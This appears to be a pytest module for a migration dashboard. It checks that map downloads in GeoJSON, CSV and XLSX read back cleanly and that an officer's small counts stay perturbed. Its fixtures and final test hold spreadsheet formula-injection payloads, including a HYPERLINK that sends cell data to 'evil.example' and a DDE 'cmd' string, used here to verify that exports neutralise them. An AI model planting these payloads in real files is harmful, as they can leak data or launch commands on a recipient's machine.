"""Every download read back by the tools that consume it: GeoJSON by GDAL (as QGIS and
ogr2ogr read it), CSV by pandas, XLSX by openpyxl.

The files are made the way the app makes them, by the map page's download callback,
for headquarters and for a district officer (whose small counts are hidden), in English
and Bangla. Expected values come from the rows this module writes, never from the code
under test.
"""

from __future__ import annotations

import base64
import io
import json
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pyogrio
import pytest
import shapely
from dash import Dash
from flask.testing import FlaskClient
from openpyxl import load_workbook

from dashboard.app import create_app
from dashboard.commands import summaries
from dashboard.config import load_settings
from dashboard.models import HotlineCall
from dashboard.models.vocabulary import HotlineTopic, ReturnGroup, Sex
from tests import factories as f
from tests.clients import client_as
from tests.dash_requests import post
from tests.known_data import add_users

KHULNA, SYLHET = f.KHULNA, f.SYLHET
GOLAPGANJ, OSMANINAGAR, BEANIBAZAR, DUMURIA = f.GOLAPGANJ, "BD60910060", "BD60910017", f.DUMURIA
# Returnees per upazila and return group. The officer (Sylhet) gets every count perturbed
# (dashboard.core.disclosure): Osmaninagar's 2 and Beanibazar's 3 as 0 or 5, Golapganj's 7 as 5 to 9.
RETURNEES = {GOLAPGANJ: (7, ReturnGroup.EU), OSMANINAGAR: (2, ReturnGroup.EU), BEANIBAZAR: (3, ReturnGroup.TRANSIT),
             DUMURIA: (6, ReturnGroup.EU)}


def _may_publish(true: int, shown: object) -> bool:
    """Whether ``shown`` is a value the officer's perturbed count of ``true`` people can take:
    a whole number, 0 or 5 for 1 to 4 people, within 2 of the truth (and never 1 to 4) above."""
    if not isinstance(shown, int | float) or pd.isna(shown) or shown != int(shown):
        return False
    if 1 <= true <= 4:
        return shown in (0, 5)
    return abs(shown - true) <= 2 and not 1 <= shown <= 4
# Providers in Golapganj: text that looks like a formula, and phone numbers in international form.
PROVIDERS = [
    {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "organisation": "@SUM(A1:A9)",
     "contact_phone": "+880 1711 000000", "lat": 24.85, "lon": 92.0},
    {"name": "-2+3", "organisation": "+A1+B1", "contact_phone": "+8801711000000", "lat": 24.87, "lon": 92.02},
]
FAIR_VENUES = {GOLAPGANJ: "Golapganj Fair Ground", DUMURIA: "Dumuria Fair Ground"}
# Hotline calls per upazila of the caller: (calls, of them referred to a service).
HOTLINE = {GOLAPGANJ: (6, 4), BEANIBAZAR: (2, 0), DUMURIA: (3, 3)}
ALL_LAYERS = "returnees,dcc_activity,awareness,hotline,fairs,referral_flows,providers"
VIEWS = {"national": f"?layers={ALL_LAYERS}", "district": f"?district={SYLHET}&layers={ALL_LAYERS}"}
ROLES = ("hq", "officer")


@pytest.fixture(scope="module")
def app(new_sqlite: Any) -> Iterator[Dash]:
    """The app on a database holding only this module's rows."""
    with new_sqlite("contracts") as (url, session):
        for upazila, (count, group) in RETURNEES.items():
            for _ in range(count):
                f.returnee(session, upazila=upazila, sex=Sex.FEMALE, return_group=group)
        for upazila, venue in FAIR_VENUES.items():
            lat, lon = (24.85, 92.02) if upazila == GOLAPGANJ else (22.8, 89.4)
            f.fair(session, upazila=upazila, venue=venue, lat=lat, lon=lon)
        for row in PROVIDERS:
            f.provider(session, upazila=GOLAPGANJ, **row)
        f.provider(session, upazila=DUMURIA)
        f.dcc(session, district=SYLHET, meetings=(pd.Timestamp("2018-02-01").date(),))
        session.add_all([HotlineCall(called_at=pd.Timestamp("2019-03-01 10:00").to_pydatetime(),
                                     district_pcode=upazila[:6], upazila_pcode=upazila, topic=HotlineTopic.LEGAL,
                                     referred=i < referred)
                         for upazila, (calls, referred) in HOTLINE.items() for i in range(calls)])
        session.flush()
        summaries.refresh(session)  # as every write in the app does: the map reads the hotline summaries
        add_users(session)
    yield create_app(load_settings({}, database_url=url, cache_type="SimpleCache"))


@pytest.fixture(scope="module")
def clients(app: Dash) -> dict[str, FlaskClient]:
    return {role: client_as(app, role) for role in ROLES}


def _download(client: FlaskClient, search: str, what: str, fmt: str, lang: str = "en") -> bytes:
    """Click one item of the map's download menu (a request as the page sends it); the file."""
    item = {"format": fmt, "type": "map-download", "what": what}
    body = {"output": "district-map-download.data", "outputs": {"id": "district-map-download", "property": "data"},
            "inputs": [[{"id": item, "property": "n_clicks", "value": 1}]],
            "state": [{"id": "map-state", "property": "search", "value": search},
                      {"id": "map-language", "property": "data", "value": lang}],
            "changedPropIds": [json.dumps(item, separators=(",", ":")) + ".n_clicks"]}
    response = post(client, body)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return base64.b64decode(response.get_json()["response"]["district-map-download"]["data"]["content"])


def _expected_values(role: str, view: str) -> dict[str, int]:
    """The true count per area on the map, from this module's rows (exact for headquarters;
    the officer's must be a value :func:`_may_publish` allows)."""
    if view == "national":
        totals = {SYLHET: sum(n for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)),
                  KHULNA: RETURNEES[DUMURIA][0]}
        return totals if role == "hq" else {SYLHET: totals[SYLHET]}
    return {u: n for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)}


def _as_seen(role: str, true: int, shown: object) -> bool:
    """Headquarters see the true count; the officer a published one."""
    return shown == true if role == "hq" else _may_publish(true, shown)


def _read_geojson(data: bytes, folder: Path, name: str) -> Any:
    """The file as GDAL reads it, after GDAL has also written it to a GeoPackage and read that back.

    GDAL's complaints are errors here: on duplicate feature ids, for one, its reader only warns
    ("Altering it to be unique") where ogr2ogr, keeping the ids, then fails to write the GeoPackage.
    """
    source = folder / f"{name}.geojson"
    source.write_bytes(data)
    # Recorded, not raised: pyogrio passes GDAL's warnings on from a C callback, where an
    # exception would be swallowed.
    with warnings.catch_warnings(record=True) as complaints:
        warnings.simplefilter("always")
        frame = pyogrio.read_dataframe(source)
        pyogrio.write_dataframe(frame, folder / f"{name}.gpkg", driver="GPKG", layer=name)
        again = pyogrio.read_dataframe(folder / f"{name}.gpkg")
    assert not [str(w.message) for w in complaints if issubclass(w.category, RuntimeWarning)]
    assert not {"id", "fid"} & {str(c).lower() for c in frame.columns}
    assert len(again) == len(frame) and list(again.columns) == list(frame.columns)
    return frame


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("view", list(VIEWS))
def test_ex020_map_geojson_round_trips_through_gdal(clients: dict[str, FlaskClient], tmp_path: Path,
                                                   role: str, view: str) -> None:
    columns = {}
    # A link naming no district opens the officer's own (issue 27): their file is Sylhet's.
    opened = view if role == "hq" else "district"
    for lang in ("en", "bn"):
        data = _download(clients[role], VIEWS[view], "areas", "geojson", lang)
        collection = json.loads(data)
        assert collection["type"] == "FeatureCollection"
        for feature in collection["features"]:  # GDAL would take either as the feature id
            assert not {"id", "fid"} & {key.lower() for key in feature["properties"]}, feature["properties"]
        frame = _read_geojson(data, tmp_path, f"{role}-{view}-{lang}")
        columns[lang] = list(frame.columns)
        assert frame.crs is None or frame.crs.to_epsg() == 4326
        assert shapely.is_valid(frame.geometry.values).all()
        lon, lat = shapely.get_coordinates(frame.geometry.values).T
        assert ((lon > 88) & (lon < 93) & (lat > 20) & (lat < 27)).all()  # Bangladesh, longitude first
        areas = frame[frame["layer"] == "areas"].set_index("pcode")
        assert pd.api.types.is_numeric_dtype(frame["value"]), frame["value"].dtype
        expected = _expected_values(role, opened)
        for pcode, value in expected.items():
            assert _as_seen(role, value, areas.loc[pcode, "value"]) and areas.loc[pcode, "value_hidden"] == 0
        # A count is never hidden (perturbed instead); the flag column is there for values that
        # rest on too few people (tests/ui/test_exports.py writes one).
        assert not areas["value_hidden"].astype(bool).any()
        _check_layers(frame, role, opened)
    assert columns["en"] == columns["bn"]  # a style built on field names works in both languages


def _check_layers(frame: Any, role: str, view: str) -> None:
    """Each layer's points hold this module's rows, with counts as numbers."""
    assert set(frame["layer"]) >= {"areas", "returnees", "fairs", "providers", "dcc_activity"} - (
        {"dcc_activity"} if view == "national" and role == "officer" else set())
    returnees = frame[frame["layer"] == "returnees"]
    assert pd.api.types.is_numeric_dtype(frame["returnees"])
    if view == "district":
        by_upazila = dict(zip(returnees["upazila_pcode"], zip(returnees["returnees"], returnees["returnees_hidden"],
                                                              strict=True), strict=True))
        for upazila, (count, _group) in RETURNEES.items():
            if upazila.startswith(SYLHET):
                # A circle published as 0 is not drawn, so not exported either.
                shown, flag = by_upazila.get(upazila, (0, 0))
                assert _as_seen(role, count, shown) and not flag
        assert "return_group" in frame.columns  # the breakdown under its key, not its translated label
        fairs = frame[frame["layer"] == "fairs"]
        assert list(fairs["venue"]) == [FAIR_VENUES[GOLAPGANJ]] and fairs["source_id"].notna().all()
        providers = frame[frame["layer"] == "providers"]
        assert sorted(providers["contact_phone"]) == sorted(p["contact_phone"] for p in PROVIDERS)
        _check_hotline(frame[frame["layer"] == "hotline"].set_index("pcode"), role)


def _check_hotline(hotline: Any, role: str) -> None:
    """Calls and referrals as numbers as the role may see them; the rate per 10,000 returnees a
    number, or null with its flag set where the officer's published returnees are too few."""
    for column in ("calls", "referred", "calls_per_10k_returnees"):
        assert pd.api.types.is_numeric_dtype(hotline[column]), column
    for upazila, (calls, referred) in HOTLINE.items():
        if upazila.startswith(SYLHET) and upazila in hotline.index:
            row = hotline.loc[upazila]
            assert _as_seen(role, calls, row["calls"]) and _as_seen(role, referred, row["referred"])
    if role == "hq":
        rates = hotline["calls_per_10k_returnees"]
        assert (rates[GOLAPGANJ], rates[BEANIBAZAR]) == (8571.4, 6666.7)  # 6 calls / 7 returnees, 2 / 3
        assert not hotline["calls_per_10k_returnees_hidden"].astype(bool).any()
    for _pcode, row in hotline.iterrows():
        assert pd.isna(row["calls_per_10k_returnees"]) or not row["calls_per_10k_returnees_hidden"]


def test_ex021_csv_downloads_read_back_by_pandas(clients: dict[str, FlaskClient]) -> None:
    district = VIEWS["district"]
    providers = pd.read_csv(io.BytesIO(_download(clients["hq"], district, "providers", "csv")),
                            encoding="utf-8-sig", skiprows=6, dtype={"contact_phone": str})
    assert sorted(providers["contact_phone"]) == sorted(p["contact_phone"] for p in PROVIDERS)  # intact
    by_phone = providers.set_index("contact_phone")
    for row in PROVIDERS:
        shown = by_phone.loc[row["contact_phone"]]
        # Text that a spreadsheet would run as a formula carries a leading apostrophe.
        assert shown["name"] == "'" + row["name"] and shown["organisation"] == "'" + row["organisation"]
        assert (shown["lat"], shown["lon"]) == (row["lat"], row["lon"])
    hotline = pd.read_csv(io.BytesIO(_download(clients["officer"], district, "hotline", "csv")),
                          encoding="utf-8-sig", skiprows=6).set_index("pcode")
    for upazila, (calls, _referred) in HOTLINE.items():
        if upazila.startswith(SYLHET) and upazila in hotline.index:
            assert _may_publish(calls, int(hotline.loc[upazila, "calls"]))
    # A rate on too few published returnees reads as the page shows it, never as a number; else
    # it is a number, zero exactly where the published calls are (2 calls may be published as 0:
    # the disclosure noise depends on the calls' random record keys).
    for pcode, rate in hotline["calls_per_10k_returnees"].dropna().items():
        assert str(rate) == "<5" or (float(rate) > 0) == (int(hotline.loc[pcode, "calls"]) > 0), (pcode, rate)
    areas = pd.read_csv(io.BytesIO(_download(clients["officer"], district, "areas", "csv")),
                        encoding="utf-8-sig", skiprows=6)
    values = dict(zip(areas.iloc[:, 0], areas.iloc[:, 3], strict=True))
    for pcode, value in _expected_values("officer", "district").items():
        assert _may_publish(value, values[pcode])


def test_ex022_xlsx_downloads_store_text_as_text_and_numbers_as_numbers(clients: dict[str, FlaskClient]) -> None:
    book = load_workbook(io.BytesIO(_download(clients["hq"], VIEWS["district"], "providers", "xlsx")))
    sheet = book["data"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    by_phone = {row["contact_phone"].value: row for row in rows}
    assert set(by_phone) == {p["contact_phone"] for p in PROVIDERS}  # phone numbers intact
    for expected in PROVIDERS:
        row = by_phone[expected["contact_phone"]]
        for column in ("name", "organisation", "contact_phone"):
            # Stored as text (type "s", never "f"), exactly as written: no apostrophe needed in XLSX.
            assert (row[column].value, row[column].data_type) == (expected[column], "s")
        for column in ("lat", "lon"):
            assert (row[column].value, row[column].data_type) == (expected[column], "n")
        assert row["id"].data_type == "n"
    officer = load_workbook(io.BytesIO(_download(clients["officer"], VIEWS["district"], "areas", "xlsx")))["data"]
    cells = {row[0].value: row[3] for row in officer.iter_rows(min_row=2)}
    for pcode, value in _expected_values("officer", "district").items():
        assert cells[pcode].data_type == "n" and _may_publish(value, cells[pcode].value)


@pytest.mark.parametrize(("cell", "in_csv"), [
    ("+880 1711 000000", "+880 1711 000000"), ("+8801711000000", "+8801711000000"),
    ("+880 (0)1711-000000", "+880 (0)1711-000000"), ("-5", "-5"), ("+3.5", "+3.5"), ("1e5", "1e5"),
    ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'), ("@SUM(A1)", "'@SUM(A1)"), ("+A1+B1", "'+A1+B1"),
    ("-2+3", "'-2+3"), ("+1+1", "'+1+1"), ("-1-1", "'-1-1"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("+", "'+"), ("+880 1711 ", "'+880 1711 "),
])
def test_ex023_csv_formula_guard_keeps_numbers_and_phones_and_neutralises_formulas(cell: str, in_csv: str) -> None:
    from dashboard.core.filters import Filters
    from dashboard.ui.exports import ABOUT_LINES, About, csv_bytes

    data = csv_bytes(pd.DataFrame({"cell": [cell]}), About("t", None, Filters(), "all"), "en")
    read = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", skiprows=ABOUT_LINES + 1, dtype=str,
                       keep_default_na=False)
    assert read["cell"].tolist() == [in_csv]
